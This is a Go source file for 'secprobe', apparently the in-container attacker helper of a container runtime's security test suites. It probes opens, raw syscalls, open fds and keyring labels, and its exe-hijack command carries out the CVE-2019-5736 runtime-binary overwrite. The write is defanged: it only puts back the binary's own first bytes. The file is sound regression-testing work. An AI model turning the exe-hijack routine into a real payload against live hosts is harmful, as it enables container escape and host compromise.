// Command secprobe is the "attacker" of berth's security suites
// (tests/integration/security_*.bats): a small static program copied into a
// container's rootfs that tries one thing and says, on stdout, exactly what
// the kernel answered, so that a test can assert on it.
//
//	secprobe open PATH MODE        open PATH (MODE: r, w, rw, wtrunc, path, creat)
//	secprobe syscall NAME ARG...   one raw syscall (names below, or nr:N)
//	secprobe fds                   the open fds, "N -> target", one per line
//	secprobe keylabel              the LSM label of our session keyring
//	secprobe exe-hijack [-pid N | -argv0 S] [-scan D] [-wait D] [-ready FILE]
//	                               the CVE-2019-5736 attack on /proc/PID/exe
//
// open and syscall print "ok" (syscall: "ok RET") or the errno's name
// ("EPERM", "EROFS", ...) and exit 0 or 1. open never writes; exe-hijack,
// when it can write the runtime's binary, only writes back the bytes that
// are already there, so that a test which proves the attack does not
// damage the host.
// The runtime must not open fds of its own (cgroup files for GOMAXPROCS):
// `secprobe fds` lists what the container gave us, nothing else.
//
//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"sort"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		usage()
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "open":
		os.Exit(cmdOpen(args))
	case "syscall":
		os.Exit(cmdSyscall(args))
	case "fds":
		os.Exit(cmdFds())
	case "keylabel":
		os.Exit(cmdKeyLabel())
	case "exe-hijack":
		os.Exit(cmdExeHijack(args))
	default:
		usage()
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: secprobe open PATH MODE | syscall NAME ARG... | fds | keylabel | exe-hijack [flags]")
	os.Exit(2)
}

// errName is the symbolic name of an errno ("EROFS"), or its text.
func errName(err error) string {
	var e unix.Errno
	if errors.As(err, &e) {
		if n := unix.ErrnoName(e); n != "" {
			return n
		}
		return "errno" + strconv.Itoa(int(e))
	}
	return err.Error()
}

// cmdKeyLabel prints the security label of the session keyring
// (KEYCTL_GET_SECURITY), or the errno's name.
func cmdKeyLabel() int {
	label, err := unix.KeyctlString(unix.KEYCTL_GET_SECURITY, unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		fmt.Println(errName(err))
		return 1
	}
	fmt.Println(strings.TrimRight(label, "\x00"))
	return 0
}

var openModes = map[string]int{
	"r":      unix.O_RDONLY,
	"w":      unix.O_WRONLY,
	"rw":     unix.O_RDWR,
	"wtrunc": unix.O_WRONLY | unix.O_TRUNC,
	"path":   unix.O_PATH,
	"creat":  unix.O_WRONLY | unix.O_CREAT | unix.O_EXCL,
}

func cmdOpen(args []string) int {
	if len(args) != 2 {
		usage()
	}
	mode, ok := openModes[args[1]]
	if !ok {
		usage()
	}
	fd, err := unix.Open(args[0], mode|unix.O_CLOEXEC, 0o644)
	if err != nil {
		fmt.Println(errName(err))
		return 1
	}
	unix.Close(fd)
	fmt.Println("ok")
	return 0
}

// syscalls the tests call by name (x86_64 numbers come from x/sys/unix).
var syscalls = map[string]uintptr{
	"personality": unix.SYS_PERSONALITY,
	"socket":      unix.SYS_SOCKET,
	"mkdir":       unix.SYS_MKDIR,
	"unshare":     unix.SYS_UNSHARE,
	"keyctl":      unix.SYS_KEYCTL,
	"getpid":      unix.SYS_GETPID,
	"getppid":     unix.SYS_GETPPID,
	"chdir":       unix.SYS_CHDIR,
	"umask":       unix.SYS_UMASK,
	"sethostname": unix.SYS_SETHOSTNAME,
	"acct":        unix.SYS_ACCT,
	"ioctl":       unix.SYS_IOCTL,
}

func cmdSyscall(args []string) int {
	if len(args) < 1 || len(args) > 7 {
		usage()
	}
	var nr uintptr
	if s, ok := strings.CutPrefix(args[0], "nr:"); ok {
		n, err := strconv.ParseUint(s, 0, 32)
		if err != nil {
			usage()
		}
		nr = uintptr(n)
	} else if n, ok := syscalls[args[0]]; ok {
		nr = n
	} else {
		fmt.Fprintf(os.Stderr, "secprobe: unknown syscall %q\n", args[0])
		return 2
	}
	var a [6]uintptr
	for i, s := range args[1:] {
		if p, ok := strings.CutPrefix(s, "str:"); ok {
			b, err := unix.BytePtrFromString(p)
			if err != nil {
				usage()
			}
			a[i] = uintptr(unsafe.Pointer(b))
			continue
		}
		v, err := strconv.ParseInt(s, 0, 64)
		if err != nil {
			u, uerr := strconv.ParseUint(s, 0, 64)
			if uerr != nil {
				usage()
			}
			v = int64(u)
		}
		a[i] = uintptr(v)
	}
	r, _, errno := unix.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5])
	if errno != 0 {
		fmt.Println(errName(errno))
		return 1
	}
	fmt.Printf("ok %d\n", int64(r))
	return 0
}

// cmdFds lists the fds this process has, without opening anything through
// the Go runtime's poller (which would add fds of its own).
func cmdFds() int {
	dir, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Fprintln(os.Stderr, "secprobe: open /proc/self/fd:", err)
		return 1
	}
	defer unix.Close(dir)
	var fds []int
	buf := make([]byte, 8192)
	for {
		n, err := unix.Getdents(dir, buf)
		if err != nil {
			fmt.Fprintln(os.Stderr, "secprobe: getdents:", err)
			return 1
		}
		if n <= 0 {
			break
		}
		_, _, names := unix.ParseDirent(buf[:n], -1, nil)
		for _, name := range names {
			if fd, err := strconv.Atoi(name); err == nil && fd != dir {
				fds = append(fds, fd)
			}
		}
	}
	sort.Ints(fds)
	for _, fd := range fds {
		target, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		if err != nil {
			target = "?" + errName(err)
		}
		fmt.Printf("%d -> %s\n", fd, target)
	}
	return 0
}

// cmdExeHijack is CVE-2019-5736 from inside the container: find a process
// that runs the runtime's binary (by pid, or the first one whose argv[0] is
// S, e.g. "/proc/self/exe" for a process re-executed by a
// "#!/proc/self/exe" script), try to write its /proc/PID/exe, keep an
// O_PATH handle of it, and retry writing through that handle until the
// runtime no longer runs (ETXTBSY goes away) or -wait passes. Output:
//
//	found PID
//	fs: 0xMAGIC                statfs f_type of the binary we hold
//	direct: RESULT             through /proc/PID/exe
//	reopen: RESULT             through /proc/self/fd/N, the last answer
//
// RESULT is the errno of open(O_WRONLY) ("EROFS", "ETXTBSY"), "write-ERRNO"
// when the open worked but writing did not (a sealed memfd), or WRITABLE.
// The write puts the file's own first bytes back where they were: it proves
// the binary could be replaced without changing it.
// Exit 0: never writable; 3: writable (the attack worked); 1: no target.
func cmdExeHijack(args []string) int {
	fs := flag.NewFlagSet("exe-hijack", flag.ExitOnError)
	pid := fs.Int("pid", 0, "target pid")
	argv0 := fs.String("argv0", "", "target: first process with this argv[0]")
	scan := fs.Duration("scan", 10*time.Second, "how long to look for -argv0")
	wait := fs.Duration("wait", 5*time.Second, "how long to retry the reopen while ETXTBSY")
	ready := fs.String("ready", "", "write \"holding\" to this file once the O_PATH handle is held")
	fs.Parse(args)

	if *pid == 0 && *argv0 == "" {
		usage()
	}
	deadline := time.Now().Add(*scan)
	var target, h int
	var exe, direct string
	var herr error
	for {
		target = *pid
		for target == 0 && time.Now().Before(deadline) {
			target = findByArgv0(*argv0)
		}
		if target == 0 {
			fmt.Println("found none")
			return 1
		}
		exe = "/proc/" + strconv.Itoa(target) + "/exe"
		// The handle first: the process may be gone a moment later.
		h, herr = unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
		direct = tryWrite(exe)
		// A process found by -argv0 that was gone before we held it (it
		// lives milliseconds): look for the next one.
		if herr == nil || *pid != 0 || !time.Now().Before(deadline) {
			break
		}
	}
	fmt.Printf("found %d\n", target)
	if herr != nil {
		fmt.Printf("direct: %s\nhandle: %s\n", direct, errName(herr))
		return 1
	}
	var st unix.Statfs_t
	if err := unix.Fstatfs(h, &st); err == nil {
		fmt.Printf("fs: 0x%x\n", st.Type)
	}
	fmt.Printf("direct: %s\n", direct)
	if *ready != "" {
		os.WriteFile(*ready, []byte("holding\n"), 0o644)
	}
	if direct == "WRITABLE" {
		fmt.Println("reopen: WRITABLE")
		return 3
	}
	reopen := "/proc/self/fd/" + strconv.Itoa(h)
	deadline = time.Now().Add(*wait)
	for {
		res := tryWrite(reopen)
		if res == "WRITABLE" {
			fmt.Println("reopen: WRITABLE")
			return 3
		}
		if res != "ETXTBSY" || time.Now().After(deadline) {
			fmt.Printf("reopen: %s\n", res)
			return 0
		}
		time.Sleep(5 * time.Millisecond)
	}
}

// tryWrite opens path for writing and, if that works, writes the file's
// first four bytes back onto themselves.
func tryWrite(path string) string {
	fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return errName(err)
	}
	defer unix.Close(fd)
	r, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "read-" + errName(err)
	}
	defer unix.Close(r)
	var head [4]byte
	if n, err := unix.Pread(r, head[:], 0); err != nil || n != len(head) {
		return "read-short"
	}
	if _, err := unix.Pwrite(fd, head[:], 0); err != nil {
		return "write-" + errName(err)
	}
	return "WRITABLE"
}

// findByArgv0 scans /proc once for a process (not us) whose argv[0] is s.
func findByArgv0(s string) int {
	d, err := os.Open("/proc")
	if err != nil {
		return 0
	}
	names, _ := d.Readdirnames(-1)
	d.Close()
	self := os.Getpid()
	for _, n := range names {
		p, err := strconv.Atoi(n)
		if err != nil || p == self {
			continue
		}
		data, err := os.ReadFile("/proc/" + n + "/cmdline")
		if err != nil {
			continue
		}
		if a0, _, _ := strings.Cut(string(data), "\x00"); a0 == s {
			return p
		}
	}
	return 0
}
